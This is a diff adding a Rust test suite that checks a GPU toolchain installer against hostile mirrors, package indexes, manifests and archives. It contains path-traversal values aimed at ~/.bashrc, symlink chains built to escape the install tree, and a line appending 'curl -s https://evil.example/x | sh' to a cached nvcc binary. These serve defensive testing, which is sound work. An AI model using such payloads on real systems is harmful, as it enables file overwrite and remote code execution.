@@ -1,0 +1,642 @@
+//! The installer against an attacker: a mirror, an index or a manifest that names paths
+//! where digests and names belong, archives whose links climb out of the tree together,
+//! two installs whose names share a prefix, a tampered install, and the messages a user
+//! gets when the cache, the manifest, the server or GPUENV_HOME is not what it should be.
+//! Everything hostile is generated here and served from 127.0.0.1 or the sandbox.
+
+#[path = "common/archives.rs"]
+mod archives;
+mod common;
+#[path = "common/install_fixtures.rs"]
+mod fixtures;
+#[path = "common/server.rs"]
+mod server;
+
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use archives::*;
+use common::*;
+use fixtures::*;
+use server::Server;
+
+/// `~/.bashrc` in the sandbox, the file a hostile mirror aims at.
+struct Victim {
+    path: PathBuf,
+    bytes: Vec<u8>,
+}
+
+impl Victim {
+    fn plant(sb: &Sandbox) -> Victim {
+        let path = sb.home().join(".bashrc");
+        let bytes = b"alias ll='ls -l'\nexport EDITOR=vi\n".to_vec();
+        fs_err::write(&path, &bytes).unwrap();
+        Victim { path, bytes }
+    }
+
+    /// From the download cache's `partial/`, `archives/` and `locks/` dirs.
+    const FROM_CACHE: &'static str = "../../../../../.bashrc";
+
+    fn untouched(&self, out: &Output, what: &str) {
+        let t = text(out);
+        assert_eq!(out.status.code(), Some(2), "{what}: {t}");
+        assert_eq!(
+            fs_err::read(&self.path).ok().as_deref(),
+            Some(&self.bytes[..]),
+            "{what}: ~/.bashrc was changed\n{t}"
+        );
+        let lock = self.path.with_file_name(".bashrc.lock");
+        assert!(!lock.exists(), "{what}: {} was created", lock.display());
+    }
+}
+
+fn hint_last(t: &str) {
+    assert!(
+        t.trim_end().lines().last().unwrap().starts_with("hint:"),
+        "the hint comes last:\n{t}"
+    );
+}
+
+const NVIDIA_MINIMAL: &[&str] = &[
+    "install",
+    "cuda-12.4",
+    "--source",
+    "nvidia",
+    "--profile",
+    "minimal",
+];
+
+/// A redist mirror of 12.4.1 on a server, whose nvcc entry gets `sha256` and `size`.
+fn redist_with(sha256: &str, size: usize) -> Server {
+    let server = Server::start();
+    let mut tree = redist_tree(&["12.4.1"]);
+    let m = tree
+        .iter_mut()
+        .find(|(p, _, _)| p == "redistrib_12.4.1.json")
+        .unwrap();
+    let mut json: serde_json::Value = serde_json::from_slice(&m.1).unwrap();
+    json["cuda_nvcc"][platform()]["sha256"] = sha256.into();
+    json["cuda_nvcc"][platform()]["size"] = size.to_string().into();
+    m.1 = serde_json::to_vec(&json).unwrap();
+    serve(&server, "redist/", &tree);
+    server
+}
+
+#[test]
+fn a_redist_sha256_naming_bashrc_cannot_append_to_it_delete_it_or_lock_it() {
+    for (what, extra) in [("append", 4096), ("delete", 0)] {
+        let sb = Sandbox::new();
+        let victim = Victim::plant(&sb);
+        let server = redist_with(Victim::FROM_CACHE, victim.bytes.len() + extra);
+        let url = server.url("redist/");
+        let out = gpuenv(&sb, &[("GPUENV_CUDA_MIRROR", &url)], NVIDIA_MINIMAL);
+        victim.untouched(&out, what);
+        let t = text(&out);
+        assert!(
+            t.contains("the component cuda_nvcc of CUDA 12.4.1")
+                && t.contains("`../../../../../.bashrc` is not 64 hex digits"),
+            "{t}"
+        );
+        hint_last(&t);
+        assert!(server.hits(".tar.xz").is_empty(), "nothing was fetched");
+    }
+}
+
+/// The package index of `pypi_tree`, with the metapackage's digest replaced by `sha256`.
+fn index_with(sha256: &str) -> Server {
+    let server = Server::start();
+    let mut tree = pypi_tree();
+    for (path, body, _) in tree.iter_mut() {
+        if path == "simple/cuda-toolkit/" {
+            let mut json: serde_json::Value = serde_json::from_slice(body).unwrap();
+            for f in json["files"].as_array_mut().unwrap() {
+                f["hashes"]["sha256"] = sha256.into();
+            }
+            *body = serde_json::to_vec(&json).unwrap();
+        } else if path == "html/cuda-toolkit/" {
+            let html = String::from_utf8(body.clone()).unwrap();
+            let mut out = String::new();
+            for (i, piece) in html.split("#sha256=").enumerate() {
+                if i > 0 {
+                    out.push_str("#sha256=");
+                    out.push_str(sha256);
+                    out.push_str(&piece[64..]);
+                } else {
+                    out.push_str(piece);
+                }
+            }
+            *body = out.into_bytes();
+        }
+    }
+    serve(&server, "", &tree);
+    server
+}
+
+#[test]
+fn an_index_page_sha256_naming_bashrc_cannot_touch_it_json_or_html() {
+    let server = index_with(Victim::FROM_CACHE);
+    for index in ["simple/", "html/"] {
+        let sb = Sandbox::new();
+        let victim = Victim::plant(&sb);
+        let url = server.url(index);
+        let out = gpuenv(
+            &sb,
+            &[("GPUENV_PYPI_URL", &url)],
+            &["install", "cuda-13.0", "--source", "pypi"],
+        );
+        victim.untouched(&out, index);
+        let t = text(&out);
+        assert!(
+            t.contains("the link to cuda_toolkit-13.0.2") && t.contains("is not 64 hex digits"),
+            "{index}: {t}"
+        );
+        hint_last(&t);
+    }
+    assert!(server.hits(".whl").is_empty(), "nothing was fetched");
+}
+
+#[test]
+fn a_gpuenv_manifest_naming_paths_is_refused_before_anything_is_fetched() {
+    let sb = Sandbox::new();
+    let victim = Victim::plant(&sb);
+    let tarball = rocm_tarball("6.2.4");
+    let dir = sb.path("m");
+    fs_err::create_dir_all(&dir).unwrap();
+    fs_err::write(dir.join("rocm.tar.xz"), &tarball).unwrap();
+    let sha = sha256(&tarball);
+    let cases = [
+        (
+            "sha256",
+            format!(
+                "url = \"rocm.tar.xz\"\nsha256 = \"{}\"\n",
+                Victim::FROM_CACHE
+            ),
+            "is not 64 hex digits",
+        ),
+        (
+            "component",
+            format!("url = \"rocm.tar.xz\"\nsha256 = \"{sha}\"\ncomponent = \"../../x\"\n"),
+            "the component `../../x` cannot name a file",
+        ),
+        (
+            "file name",
+            format!("url = \"sub/..\"\nsha256 = \"{sha}\"\n"),
+            "the file name `..` cannot name a file",
+        ),
+    ];
+    for (what, archive, why) in cases {
+        let manifest = dir.join("m.toml");
+        write(
+            &manifest,
+            &format!("kind = \"rocm\"\nversion = \"6.2.4\"\n[[archive]]\n{archive}"),
+        );
+        let out = gpuenv(
+            &sb,
+            &[],
+            &[
+                "install",
+                "rocm-6.2.4",
+                "--manifest",
+                manifest.to_str().unwrap(),
+            ],
+        );
+        victim.untouched(&out, what);
+        let t = text(&out);
+        assert!(t.contains(why), "{what}: expected {why:?} in\n{t}");
+        hint_last(&t);
+    }
+    assert!(!sb.gpuenv_home().join("downloads/archives").exists());
+}
+
+#[test]
+fn uninstall_of_a_path_touches_nothing_outside() {
+    let sb = Sandbox::new();
+    // From toolchains/: up to the sandbox, then into victim/.
+    let out = gpuenv(&sb, &[], &["uninstall", "/../../../../../victim/x"]);
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(
+        t.contains("the toolchain name `/../../../../../victim/x` cannot name a file"),
+        "{t}"
+    );
+    hint_last(&t);
+    assert!(!sb.path("victim").exists(), "a lock was created outside");
+    assert!(!sb.gpuenv_home().exists(), "GPUENV_HOME was touched");
+}
+
+/// A manifest of rocm-6.2.4 made of `archives` (items, strip-prefix), written beside it.
+fn manifest_of(sb: &Sandbox, tag: &str, archives: &[(Vec<Item>, &str)]) -> PathBuf {
+    let dir = sb.path(&format!("m-{tag}"));
+    fs_err::create_dir_all(&dir).unwrap();
+    let mut toml = String::from("kind = \"rocm\"\nversion = \"6.2.4\"\n");
+    for (i, (items, strip)) in archives.iter().enumerate() {
+        let bytes = tar_xz(items);
+        let name = format!("part{i}.tar.xz");
+        fs_err::write(dir.join(&name), &bytes).unwrap();
+        toml.push_str(&format!(
+            "[[archive]]\nurl = \"{name}\"\nsha256 = \"{}\"\nstrip-prefix = \"{strip}\"\n",
+            sha256(&bytes)
+        ));
+    }
+    let path = dir.join("toolchains.toml");
+    write(&path, &toml);
+    path
+}
+
+fn install_manifest(sb: &Sandbox, manifest: &Path) -> Output {
+    gpuenv(
+        sb,
+        &[],
+        &[
+            "install",
+            "rocm-6.2.4",
+            "--manifest",
+            manifest.to_str().unwrap(),
+        ],
+    )
+}
+
+fn link(at: &str, to: &str) -> Item {
+    Item::Symlink(at.into(), to.into())
+}
+
+/// Refused with exit 2, nothing registered, nothing written into `outside`.
+fn refused_and_nothing_outside(sb: &Sandbox, out: &Output, outside: &Path, why: &str) {
+    let t = text(out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(t.contains(why), "expected {why:?} in\n{t}");
+    hint_last(&t);
+    assert_eq!(
+        fs_err::read_dir(outside).unwrap().count(),
+        0,
+        "something was written outside:\n{t}"
+    );
+    assert!(sb.settings().is_none_or(|s| !s.contains("rocm-6.2.4")));
+    assert!(!sb.gpuenv_home().join("toolchains/rocm-6.2.4").exists());
+}
+
+#[test]
+fn a_chain_of_relative_links_cannot_carry_a_later_archive_outside() {
+    // The attack as found: u12 climbs twelve levels, `extra` goes through it to a directory
+    // outside, and the second archive of the same install writes into `extra`.
+    let sb = Sandbox::new();
+    let outside = sb.path("outside");
+    fs_err::create_dir_all(&outside).unwrap();
+    let from_root = outside.strip_prefix("/").unwrap().to_str().unwrap();
+    let mut first = vec![link("pkg/a/up", ".."), link("pkg/a/u1", "up/..")];
+    for i in 2..=12 {
+        first.push(link(&format!("pkg/a/u{i}"), &format!("u{}/..", i - 1)));
+    }
+    first.push(link("pkg/extra", &format!("a/u12/{from_root}")));
+    let second = vec![
+        exe("bin/hipcc", "#!/bin/sh\n"),
+        file("pkg/extra/pwned", "pwned"),
+    ];
+    let m = manifest_of(&sb, "chain", &[(first, ""), (second, "")]);
+    let out = install_manifest(&sb, &m);
+    refused_and_nothing_outside(
+        &sb,
+        &out,
+        &outside,
+        "`pkg/a/u2`: it links outside the archive, to `u1/..` (it climbs above the root through the link `pkg/a/u1`)",
+    );
+}
+
+#[test]
+fn links_harmless_in_each_archive_cannot_combine_to_leave_the_tree() {
+    // Alone, `x` stays inside (b/…/.. cancels out) and `b -> .` is harmless; together `x`
+    // climbs seven levels from pkg/, to the sandbox, and a third archive writes through it.
+    let sb = Sandbox::new();
+    let outside = sb.path("outside");
+    fs_err::create_dir_all(&outside).unwrap();
+    let x = format!("{}{}outside", "b/".repeat(6), "../".repeat(7));
+    let archives = [
+        (vec![link("pkg/x", &x)], ""),
+        (vec![link("pkg/b", ".")], ""),
+        (
+            vec![
+                exe("bin/hipcc", "#!/bin/sh\n"),
+                file("pkg/x/pwned", "pwned"),
+            ],
+            "",
+        ),
+    ];
+    let m = manifest_of(&sb, "combined", &archives);
+    let out = install_manifest(&sb, &m);
+    refused_and_nothing_outside(
+        &sb,
+        &out,
+        &outside,
+        "pkg/x/pwned would be placed at pkg/x/pwned, outside the toolchain (it climbs above the root through the link `pkg/x`)",
+    );
+
+    // Without anything written through it, the link itself is refused once assembled.
+    let m = manifest_of(&sb, "combined-link", &archives[..2]);
+    let out = install_manifest(&sb, &m);
+    refused_and_nothing_outside(
+        &sb,
+        &out,
+        &outside,
+        "the assembled tree has the link pkg/x -> b/b/b/b/b/b/../../../../../../../outside, which leads outside it",
+    );
+}
+
+#[test]
+fn a_strip_prefix_cannot_turn_an_inside_link_chain_into_an_exit() {
+    // Inside its archive `a/u1` is the archive's root; with `rocm/` stripped it is the
+    // directory above the toolchain, and the next archive writes there.
+    let sb = Sandbox::new();
+    let archives = [
+        (
+            vec![
+                exe("rocm/bin/hipcc", "#!/bin/sh\n"),
+                link("rocm/a/up", ".."),
+                link("rocm/a/u1", "up/.."),
+            ],
+            "rocm",
+        ),
+        (vec![file("more/a/u1/pwned", "pwned")], "more"),
+    ];
+    let m = manifest_of(&sb, "strip", &archives);
+    let out = install_manifest(&sb, &m);
+    let toolchains = sb.gpuenv_home().join("toolchains");
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(
+        t.contains("links to up/.., outside the toolchain once placed at a/u1"),
+        "{t}"
+    );
+    hint_last(&t);
+    assert!(!toolchains.join("pwned").exists(), "written above the tree");
+    assert!(!toolchains.join("rocm-6.2.4").exists());
+}
+
+/// The same command as `Sandbox::gpuenv`, started in the background.
+fn spawn(sb: &Sandbox, vars: &[(&str, &str)], args: &[&str]) -> std::process::Child {
+    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("gpuenv"));
+    cmd.env_clear()
+        .env("HOME", sb.home())
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env("LANG", "C.UTF-8")
+        .env("NO_COLOR", "1")
+        .current_dir(sb.dir.path())
+        .args(args)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    for (k, v) in vars {
+        cmd.env(k, v);
+    }
+    cmd.spawn().unwrap()
+}
+
+fn wait_for(marker: &Path, child: &mut std::process::Child) {
+    let start = std::time::Instant::now();
+    while !marker.exists() {
+        if let Some(status) = child.try_wait().unwrap() {
+            panic!("gpuenv ended ({status}) before its checkpoint");
+        }
+        assert!(start.elapsed() < std::time::Duration::from_secs(120));
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+}
+
+#[test]
+fn installing_a_toolchain_leaves_the_temp_tree_of_one_whose_name_extends_it_alone() {
+    if !cfg!(debug_assertions) {
+        eprintln!("SKIPPED: the pause checkpoints exist in debug builds only");
+        return;
+    }
+    let sb = Sandbox::new();
+    let longer = write_manifest(&sb.path("foo"), "6.2.4");
+    let text_of = fs_err::read_to_string(&longer).unwrap();
+    write(&longer, &format!("name = \"rocm-6.2.4-foo\"\n{text_of}"));
+    let shorter = write_manifest(&sb.path("plain"), "6.2.4");
+
+    // rocm-6.2.4-foo stops with its tree assembled in its temp dir, holding its lock…
+    let marker = sb.path("paused");
+    let pause = format!("assemble:{}", marker.display());
+    let mut foo = spawn(
+        &sb,
+        &[("GPUENV_TEST_PAUSE_AT", &pause)],
+        &[
+            "install",
+            "rocm-6.2.4-foo",
+            "--manifest",
+            longer.to_str().unwrap(),
+        ],
+    );
+    wait_for(&marker, &mut foo);
+    // …while rocm-6.2.4 is installed from start to end, cleaning up after itself.
+    let plain = gpuenv(
+        &sb,
+        &[],
+        &[
+            "install",
+            "rocm-6.2.4",
+            "--manifest",
+            shorter.to_str().unwrap(),
+        ],
+    );
+    succeeded(&plain);
+    fs_err::remove_file(&marker).unwrap();
+    succeeded(&foo.wait_with_output().unwrap());
+
+    let toolchains = sb.gpuenv_home().join("toolchains");
+    for name in ["rocm-6.2.4", "rocm-6.2.4-foo"] {
+        for f in [
+            "bin/hipcc",
+            ".info/version",
+            "lib/libamdhip64.so",
+            "include/hip/hip_runtime.h",
+        ] {
+            assert!(toolchains.join(name).join(f).exists(), "{name} lacks {f}");
+        }
+    }
+    let names: Vec<String> = fs_err::read_dir(&toolchains)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| !n.ends_with(".lock"))
+        .collect();
+    assert_eq!(names.len(), 2, "temp trees left: {names:?}");
+}
+
+#[test]
+fn a_tampered_nvcc_does_not_survive_uninstall_and_an_offline_reinstall() {
+    use std::os::unix::fs::PermissionsExt;
+    let server = Server::start();
+    serve(&server, "redist/", &redist_tree(&["12.4.1"]));
+    let sb = Sandbox::new();
+    let mirror = server.url("redist/");
+    let vars = [("GPUENV_CUDA_MIRROR", mirror.as_str())];
+    let ok = |vars: &[(&str, &str)], args: &[&str]| {
+        let out = gpuenv(&sb, vars, args);
+        succeeded(&out);
+        text(&out)
+    };
+    ok(&vars, NVIDIA_MINIMAL);
+    let root = sb.gpuenv_home().join("toolchains/cuda-12.4.1");
+    let nvcc = root.join("bin/nvcc");
+    let original = fs_err::read(&nvcc).unwrap();
+    for f in [
+        "bin/nvcc",
+        "version.json",
+        "targets/x86_64-linux/include/cuda_runtime.h",
+    ] {
+        let mode = fs_err::metadata(root.join(f)).unwrap().permissions().mode();
+        assert_eq!(mode & 0o222, 0, "{f} is writable ({mode:o})");
+    }
+
+    // The attacker makes it writable and appends; the cache's copy is the same inode.
+    fs_err::set_permissions(&nvcc, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let mut tampered = original.clone();
+    tampered.extend_from_slice(b"curl -s https://evil.example/x | sh\n");
+    fs_err::write(&nvcc, &tampered).unwrap();
+
+    ok(&[], &["uninstall", "cuda-12.4.1"]);
+    assert!(!root.exists(), "uninstall left the read-only tree");
+    let out = ok(&vars, &[NVIDIA_MINIMAL, &["--offline"]].concat());
+    assert!(
+        out.contains("was changed after it was unpacked: `cuda_nvcc-linux-x86_64-12.4.131-archive/bin/nvcc` is not as it was unpacked; unpacking it again from its archive"),
+        "{out}"
+    );
+    assert_eq!(
+        fs_err::read(&nvcc).unwrap(),
+        original,
+        "the tampered bytes came back"
+    );
+
+    // The next reinstall finds the cache intact and says nothing about it.
+    ok(&[], &["uninstall", "cuda-12.4.1"]);
+    let out = ok(&vars, &[NVIDIA_MINIMAL, &["--offline"]].concat());
+    assert!(!out.contains("was changed"), "{out}");
+}
+
+#[test]
+fn a_corrupt_archive_says_the_published_file_is_broken_not_to_delete_a_deleted_file() {
+    let sb = Sandbox::new();
+    let good = rocm_tarball("6.2.4");
+    let cut = &good[..good.len() * 6 / 10];
+    let dir = sb.path("m");
+    fs_err::create_dir_all(&dir).unwrap();
+    fs_err::write(dir.join("rocm-6.2.4.tar.xz"), cut).unwrap();
+    let manifest = dir.join("m.toml");
+    write(
+        &manifest,
+        &manifest_toml("6.2.4", "rocm-6.2.4.tar.xz", &sha256(cut)),
+    );
+    let out = install_manifest(&sb, &manifest);
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    let url = format!("file://{}", dir.join("rocm-6.2.4.tar.xz").display());
+    assert!(
+        t.contains("the archive rocm-6.2.4.tar.xz is corrupt")
+            && t.contains(&format!("the file published at {url} is itself broken")),
+        "{t}"
+    );
+    assert!(
+        !t.contains("downloads/archives"),
+        "names the deleted copy:\n{t}"
+    );
+    hint_last(&t);
+    let cached = sb
+        .gpuenv_home()
+        .join(format!("downloads/archives/{}", sha256(cut)));
+    assert!(!cached.exists());
+}
+
+#[test]
+fn a_missing_local_manifest_or_mirror_is_a_missing_file_not_an_http_404() {
+    let sb = Sandbox::new();
+    let missing = sb.path("nope/toolchains.toml");
+    let url = format!("file://{}", missing.display());
+    for given in [
+        "nope/toolchains.toml",
+        missing.to_str().unwrap(),
+        url.as_str(),
+    ] {
+        let out = gpuenv(&sb, &[], &["install", "rocm-6.2.4", "--manifest", given]);
+        let t = text(&out);
+        assert_eq!(out.status.code(), Some(2), "{t}");
+        assert!(
+            t.contains(&format!("{} does not exist", missing.display())),
+            "{given}: {t}"
+        );
+        assert!(!t.contains("404"), "{given}: {t}");
+        hint_last(&t);
+    }
+    let mirror = sb.path("no-mirror");
+    let out = gpuenv(
+        &sb,
+        &[("GPUENV_CUDA_MIRROR", mirror.to_str().unwrap())],
+        NVIDIA_MINIMAL,
+    );
+    let t = text(&out);
+    assert!(
+        t.contains(&format!("{}/ does not exist", mirror.display())),
+        "{t}"
+    );
+    assert!(!t.contains("404"), "{t}");
+}
+
+#[test]
+fn a_redirect_loop_is_reported_at_once_not_retried() {
+    let server = Server::start();
+    server.redirect("loop/", "loop/");
+    let sb = Sandbox::new();
+    let url = server.url("loop/");
+    let out = gpuenv(&sb, &[("GPUENV_CUDA_MIRROR", &url)], NVIDIA_MINIMAL);
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(t.contains(&format!("{url} redirects in a loop")), "{t}");
+    assert!(!t.contains("retrying"), "{t}");
+    hint_last(&t);
+    // One attempt follows the redirects reqwest allows (10), and no second one starts.
+    let hits = server.hits("/loop/").len();
+    assert!((2..=11).contains(&hits), "{hits} requests");
+}
+
+#[test]
+fn a_read_only_gpuenv_home_is_said_to_be_read_only() {
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    use std::os::unix::process::CommandExt;
+    let sb = Sandbox::new();
+    let manifest = write_manifest(&sb.path("m"), "6.2.4");
+    let home = sb.gpuenv_home();
+    fs_err::create_dir_all(&home).unwrap();
+    fs_err::set_permissions(&home, std::fs::Permissions::from_mode(0o555)).unwrap();
+    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("gpuenv"));
+    cmd.env_clear()
+        .env("HOME", sb.home())
+        .env("PATH", "/usr/bin:/bin")
+        .env("NO_COLOR", "1")
+        .current_dir(sb.dir.path())
+        .args([
+            "install",
+            "rocm-6.2.4",
+            "--manifest",
+            manifest.to_str().unwrap(),
+        ]);
+    // Root writes anywhere: run as nobody, who can read the sandbox but not write it.
+    if fs_err::metadata(sb.dir.path()).unwrap().uid() == 0 {
+        for d in [
+            sb.dir.path(),
+            &sb.home(),
+            &sb.path("home/.local"),
+            &sb.path("home/.local/share"),
+        ] {
+            fs_err::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        cmd.uid(65534).gid(65534);
+    }
+    let out = cmd.output().unwrap();
+    let t = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{t}");
+    assert!(
+        t.contains(&format!("GPUENV_HOME ({}) is read-only", home.display())),
+        "{t}"
+    );
+    assert!(!t.contains("failed to create directory"), "{t}");
+    hint_last(&t);
+    assert_eq!(fs_err::read_dir(&home).unwrap().count(), 0);
+}
